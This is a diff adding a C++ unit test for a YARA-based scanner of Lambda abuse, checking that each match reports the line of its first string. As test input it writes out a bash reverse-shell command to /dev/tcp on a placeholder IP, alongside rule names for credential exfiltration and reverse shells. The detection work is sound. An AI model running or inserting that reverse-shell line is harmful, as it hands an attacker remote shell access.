@@ -50,6 +50,29 @@ TEST(Yara, LambdaAbuseRulesOnTheirSamples) {
                                          "lambda_ir_obfuscated_exec loader.js"}));
 }
 
+// A match names the line of its earliest string, so a report can point at it. The reverse
+// shell is on run.sh's second line; a line further down moves the match with it.
+TEST(Yara, AMatchNamesTheLineOfItsFirstString) {
+  auto scanner = Scanner();
+  ASSERT_TRUE(scanner);
+  std::map<std::string, uint32_t> lines;
+  for (const auto& [name, content] : kSamples) {
+    for (const auto& m : scanner->Scan(name, content)) {
+      if (m.ns.rfind("lambda-ir/", 0) == 0) lines[m.rule] = m.line;
+    }
+  }
+  EXPECT_EQ(lines, (std::map<std::string, uint32_t>{{"lambda_ir_credential_exfiltration", 4},
+                                                    {"lambda_ir_mining_pool", 1},
+                                                    {"lambda_ir_reverse_shell", 2},
+                                                    {"lambda_ir_extension_registration", 2},
+                                                    {"lambda_ir_obfuscated_exec", 2}}));
+  uint32_t moved = 0;
+  for (const auto& m : scanner->Scan("run.sh", "#!/bin/bash\n\n\n\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n")) {
+    if (m.rule == "lambda_ir_reverse_shell") moved = m.line;
+  }
+  EXPECT_EQ(moved, 5u);
+}
+
 TEST(Yara, PathIncludeSelectsFiles) {
   EXPECT_TRUE(PathIncluded("*.py,*.js,*/package.json", "lib/util.py"));
   EXPECT_TRUE(PathIncluded("*.py,*.js,*/package.json", "node_modules/x/package.json"));
